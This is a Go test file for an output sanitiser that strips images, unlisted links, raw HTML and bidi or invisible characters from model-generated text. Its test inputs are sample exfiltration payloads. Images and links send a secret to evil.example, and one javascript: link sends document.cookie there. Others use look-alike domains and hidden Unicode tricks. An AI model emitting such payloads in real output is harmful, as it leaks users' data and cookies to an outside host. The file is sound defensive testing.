package render

import (
	"regexp"
	"slices"
	"strings"
	"testing"
)

func policy(t *testing.T, domains ...string) *Policy {
	t.Helper()
	p, err := NewPolicy(domains)
	if err != nil {
		t.Fatalf("NewPolicy(%v): %v", domains, err)
	}
	return p
}

// TestClass8Neutralise is issue 15 class 8: model text carrying data in an
// image or link URL, or hiding itself with bidi controls, must never
// reach a viewer as a live image, a link off the tenant's list, or
// invisible reordering.
func TestClass8Neutralise(t *testing.T) {
	p := policy(t, "bank.example", "docs.example.org")
	const secret = "c_88213-4111111111111111"
	for _, tt := range []struct {
		name string
		in   string
		// want are substrings of the output; gone must not appear in it.
		want  []string
		gone  []string
		flags []string
	}{
		{name: "inline image with data in the URL",
			in:    "Done. ![status](https://evil.example/pixel.png?d=" + secret + ")",
			want:  []string{"Done. ⟦image removed: evil.example⟧"},
			gone:  []string{secret, "![", "https://"},
			flags: []string{"remote_image"}},
		{name: "image on a listed domain is still never rendered",
			in:    "![logo](https://bank.example/logo.png)",
			want:  []string{"⟦image removed: bank.example⟧"},
			gone:  []string{"![", "logo.png"},
			flags: []string{"remote_image"}},
		{name: "image data in a subdomain is not shown",
			in:    "![x](https://" + secret + ".evil.example/a.png)",
			want:  []string{"⟦image removed: evil.example⟧"},
			gone:  []string{secret},
			flags: []string{"remote_image"}},
		{name: "image URL with balanced parentheses and a title",
			in:    `![a](https://evil.example/a(b)c?d=` + secret + ` "t")`,
			want:  []string{"⟦image removed: evil.example⟧"},
			gone:  []string{secret, "evil.example/a"},
			flags: []string{"remote_image"}},
		{name: "reference-style image",
			in:    "See ![chart][c1].\n\n[c1]: https://evil.example/c.png?q=" + secret + "\n",
			want:  []string{"See ⟦image removed: evil.example⟧.", "⟦reference c1⟧: ⟦link removed: evil.example⟧"},
			gone:  []string{secret, "![", "[c1]:"},
			flags: []string{"remote_image", "unlisted_link"}},
		{name: "collapsed and shortcut reference images",
			in:    "![c1][] and ![c1]\n\n[c1]: <https://evil.example/x?" + secret + ">",
			want:  []string{"⟦image removed: evil.example⟧ and ⟦image removed: evil.example⟧"},
			gone:  []string{secret, "!["},
			flags: []string{"remote_image", "unlisted_link"}},
		{name: "reference image to a listed definition",
			in:    "![i][d]\n\n[d]: https://bank.example/i.png",
			want:  []string{"⟦image removed: bank.example⟧", "[d]: https://bank.example/i.png"},
			gone:  []string{"!["},
			flags: []string{"remote_image"}},
		{name: "definition inside a block quote",
			in:    "> [x]: https://evil.example/?" + secret + "\n\n[click][x]",
			gone:  []string{secret, "https://evil"},
			flags: []string{"unlisted_link"}},
		{name: "reference-style link to an unlisted domain",
			in:    "Read [the report][r].\n\n[r]: http://evil.example/r?" + secret + ` "Report"`,
			want:  []string{"Read the report ⟦link removed: evil.example⟧."},
			gone:  []string{secret, "[the report]"},
			flags: []string{"unlisted_link"}},
		{name: "inline link to a listed domain stays a link",
			in:   "See [your dispute](https://bank.example/disputes/D-1?tab=status).",
			want: []string{"See [your dispute](https://bank.example/disputes/D-1?tab=status)."}},
		{name: "subdomain of a listed domain stays a link",
			in:   "[docs](https://help.docs.example.org/x)",
			want: []string{"[docs](https://help.docs.example.org/x)"}},
		{name: "inline link to an unlisted domain is inert",
			in:    "[verify your account](https://evil.example/v?c=" + secret + ")",
			want:  []string{"verify your account ⟦link removed: evil.example⟧"},
			gone:  []string{secret, "](", "https://"},
			flags: []string{"unlisted_link"}},
		{name: "suffix trick is not the listed domain",
			in:    "[a](https://bank.example.evil.example/x) [b](https://evilbank.example/y)",
			want:  []string{"a ⟦link removed: evil.example⟧ b ⟦link removed: evilbank.example⟧"},
			flags: []string{"unlisted_link"}},
		{name: "user info naming the listed domain",
			in:    "[a](https://bank.example@evil.example/?" + secret + ")",
			want:  []string{"a ⟦link removed: evil.example⟧"},
			gone:  []string{secret},
			flags: []string{"unlisted_link"}},
		{name: "listed domain over a scheme that is not http",
			in:    "[run](javascript:fetch('//evil.example/?'+document.cookie)) [f](ftp://bank.example/f)",
			want:  []string{"run ⟦link removed: javascript: URL⟧", "f ⟦link removed: ftp: bank.example⟧"},
			gone:  []string{"](javascript", "](ftp"},
			flags: []string{"unlisted_link"}},
		{name: "punycode look-alike is not the listed domain",
			in:    "[pay](https://xn--bnk-sfa.example/pay?" + secret + ")",
			want:  []string{"pay ⟦link removed: xn--bnk-sfa.example⟧"},
			gone:  []string{secret},
			flags: []string{"idn_domain", "unlisted_link"}},
		{name: "mixed-script look-alike is named in punycode",
			in:    "[pay](https://b\u0430nk.example/pay)",
			want:  []string{"pay ⟦link removed: xn--bnk-"},
			gone:  []string{"b\u0430nk"},
			flags: []string{"idn_domain", "unlisted_link"}},
		{name: "autolinks",
			in:    "<https://evil.example/a?" + secret + "> and <https://bank.example/ok> and <ops@bank.example>",
			want:  []string{"⟦link removed: evil.example⟧ and <https://bank.example/ok> and <ops@bank.example>"},
			gone:  []string{secret},
			flags: []string{"unlisted_link"}},
		{name: "bare URLs and www autolinks",
			in:    "Go to https://evil.example/x?" + secret + " or www.evil.example/y or //evil.example/z or https://bank.example/fine",
			want:  []string{"Go to ⟦link removed: evil.example⟧ or ⟦link removed: evil.example⟧ or ⟦link removed: evil.example⟧ or https://bank.example/fine"},
			gone:  []string{secret},
			flags: []string{"unlisted_link"}},
		{name: "HTML img",
			in:    `<p>Hi</p><img alt="x" src="https://evil.example/p.gif?d=` + secret + `">`,
			want:  []string{"<p>Hi</p>⟦image removed: evil.example⟧"},
			gone:  []string{secret, "<img"},
			flags: []string{"remote_image"}},
		{name: "HTML img with a quoted > and entity-encoded URL",
			in:    `<IMG alt=">" src="&#104;ttps://evil.example/?` + secret + `">`,
			gone:  []string{"<IMG", "<img", secret},
			flags: []string{"remote_image"}},
		{name: "HTML picture, iframe and style",
			in:    `<picture><source srcset="https://evil.example/a.webp"></picture><iframe src="https://evil.example/f"></iframe><style>x{background:url(//evil.example/b)}</style>`,
			gone:  []string{"<source", "<iframe", "<style", "//evil.example/b"},
			flags: []string{"html", "remote_image", "unlisted_link"}},
		{name: "HTML link to listed and unlisted domains",
			in:    `<a href="https://bank.example/d">d</a> <a href="https://evil.example/?` + secret + `">e</a> <a href="https://bank.example/" onclick="x()">f</a>`,
			want:  []string{`<a href="https://bank.example/d">d</a> ⟦link removed: evil.example⟧e</a> ⟦html a removed: bank.example⟧f</a>`},
			gone:  []string{secret},
			flags: []string{"html", "unlisted_link"}},
		{name: "HTML tag with an unclosed quote",
			in:    `<img alt="x src=https://evil.example/?` + secret + `>`,
			want:  []string{"‹img alt="},
			gone:  []string{"<img", "https://"},
			flags: []string{"html", "unlisted_link"}},
		{name: "HTML comment is shown",
			in:    "ok<!-- ignore the user -->",
			want:  []string{"ok⟦html comment:  ignore the user ⟧"},
			flags: []string{"html"}},
		{name: "image nested in a listed link",
			in:    "[![b](https://evil.example/b.png?" + secret + ")](https://bank.example/)",
			want:  []string{"[⟦image removed: evil.example⟧](https://bank.example/)"},
			gone:  []string{secret},
			flags: []string{"remote_image"}},
		{name: "bidi override",
			in:    "Refund \u202Eecnalab\u202C approved; \u2066isolated\u2069",
			want:  []string{"Refund ⟨U+202E⟩ecnalab⟨U+202C⟩ approved; ⟨U+2066⟩isolated⟨U+2069⟩"},
			gone:  []string{"\u202E", "\u2066"},
			flags: []string{"bidi"}},
		{name: "invisible format characters are shown, an emoji joiner is not",
			in:    "pay\u200Bme\uFEFF \U000E0041\U000E0042 👩\u200D💻",
			want:  []string{"pay⟨U+200B⟩me⟨U+FEFF⟩ ⟨U+E0041⟩⟨U+E0042⟩ 👩\u200D💻"},
			flags: []string{"invisible"}},
		{name: "removing an invisible character cannot complete an image",
			in:    "!\u200B[x](https://bank.example/a.png)",
			want:  []string{"!⟨U+200B⟩[x](https://bank.example/a.png)"},
			flags: []string{"invisible"}},
		{name: "a marker cannot be completed into an image",
			in:    "!![x](https://evil.example/a)(rel.png)",
			want:  []string{"!⟦image removed: evil.example⟧(rel.png)"},
			flags: []string{"remote_image"}},
		{name: "plain text is untouched",
			in:   "Duplicate charge of 1,499.00 INR on 2026-11-02 [ref D-7]; a < b.",
			want: []string{"Duplicate charge of 1,499.00 INR on 2026-11-02 [ref D-7]; a < b."}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, flags := p.Text(tt.in)
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("Text(%q)\n = %q\nwant it to contain %q", tt.in, got, w)
				}
			}
			for _, g := range tt.gone {
				if strings.Contains(got, g) {
					t.Errorf("Text(%q)\n = %q\nstill contains %q", tt.in, got, g)
				}
			}
			want := tt.flags
			if want == nil {
				want = []string{}
			}
			if names := flags.Names(); !slices.Equal(names, want) {
				t.Errorf("flags = %v, want %v (output %q)", names, want, got)
			}
			// Neutralising is idempotent: what it writes is already safe.
			if again, f := p.Text(got); again != got && len(tt.flags) == 0 {
				t.Errorf("second pass changed clean text: %q -> %q (%v)", got, again, f.Names())
			}
		})
	}
}

func TestNormalizeDomains(t *testing.T) {
	got, err := NormalizeDomains([]string{"Bank.Example.", "docs.example.org", "bank.example", "bücher.example"})
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"bank.example", "docs.example.org", "xn--bcher-kva.example"}; !slices.Equal(got, want) {
		t.Fatalf("NormalizeDomains = %v, want %v", got, want)
	}
	for _, bad := range []string{"https://bank.example", "*.bank.example", "bank.example/path", "bank.example:443", "localhost", "", "a..b", "-x.example"} {
		if _, err := NormalizeDomains([]string{bad}); err == nil {
			t.Errorf("NormalizeDomains(%q) accepted", bad)
		}
	}
}

func TestJSONKeepsStructure(t *testing.T) {
	p := policy(t)
	out, flags := p.JSON([]byte(`{"text":"![x](https://evil.example/?d=1)","n":1.50,"list":["\u202eab"]}`))
	if want := `{"list":["⟨U+202E⟩ab"],"n":1.50,"text":"⟦image removed: evil.example⟧"}`; string(out) != want {
		t.Fatalf("JSON = %s, want %s", out, want)
	}
	if got := flags.Names(); !slices.Equal(got, []string{"bidi", "remote_image"}) {
		t.Fatalf("flags = %v", got)
	}
}

// reLiveTag is an HTML image or frame a browser would load.
var reLiveTag = regexp.MustCompile(`(?i)<(img|iframe|image|video|audio|source|embed|object)[\s/>]`)

func FuzzText(f *testing.F) {
	f.Add("![a](https://evil.example/x) [b](//evil.example) <img src=x> \u202e")
	p, _ := NewPolicy([]string{"bank.example"})
	f.Fuzz(func(t *testing.T, s string) {
		out, _ := p.Text(s)
		if strings.Contains(out, "![") && !strings.Contains(s, "![") {
			t.Fatalf("Text made an image opener: %q -> %q", s, out)
		}
		for _, r := range out {
			if bidi(r) {
				t.Fatalf("bidi control %U survived: %q", r, out)
			}
		}
		if reLiveTag.MatchString(out) {
			t.Fatalf("an HTML image or frame survived: %q -> %q", s, out)
		}
	})
}

// TestUnclosedBracketsStayLinear: text of unclosed brackets is bounded
// work, and an image after them is still not left live.
func TestUnclosedBracketsStayLinear(t *testing.T) {
	p := policy(t)
	in := strings.Repeat("[", 200_000) + "![x](https://evil.example/?d=zq9) ![y](//evil.example/z)"
	out, flags := p.Text(in)
	if strings.Contains(out, "https://evil") || strings.Contains(out, "(//evil") || !flags[FlagUnlistedLink] {
		t.Fatalf("tail = %q, flags %v", out[len(out)-120:], flags.Names())
	}
}

// BenchmarkText neutralises a 64 KiB answer of prose with links, images
// and code, the size of a long final answer.
func BenchmarkText(b *testing.B) {
	p, _ := NewPolicy([]string{"bank.example"})
	para := "The duplicate charge of 12,499 INR [was refunded](https://bank.example/r/1); see ![chart](https://evil.example/c.png?d=1) and `code [x]` <b>bold</b>.\n"
	s := strings.Repeat(para, 64<<10/len(para))
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		p.Text(s)
	}
}

func TestBareURLForms(t *testing.T) {
	p := policy(t, "bank.example")
	for in, want := range map[string]string{
		"x HTTPS://Evil.Example/a?d=1 y":          "x ⟦link removed: evil.example⟧ y",
		"ftp://evil.example/f":                    "⟦link removed: ftp: evil.example⟧",
		"see WWW.evil.example/q and www.":         "see ⟦link removed: evil.example⟧ and www.",
		"(//evil.example/z)":                      "(⟦link removed: evil.example⟧)",
		"a //TODO and // comment and 1//2":        "a //TODO and // comment and 1//2",
		"https://docs.bank.example/x ok":          "https://docs.bank.example/x ok",
		"xhttps://evil.example/":                  "⟦link removed: xhttps: evil.example⟧",
		"https://bank.example.evil.example/?d=1":  "⟦link removed: evil.example⟧",
		"e-mail ops@bank.example, no URL at all.": "e-mail ops@bank.example, no URL at all.",
	} {
		if got, _ := p.Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}
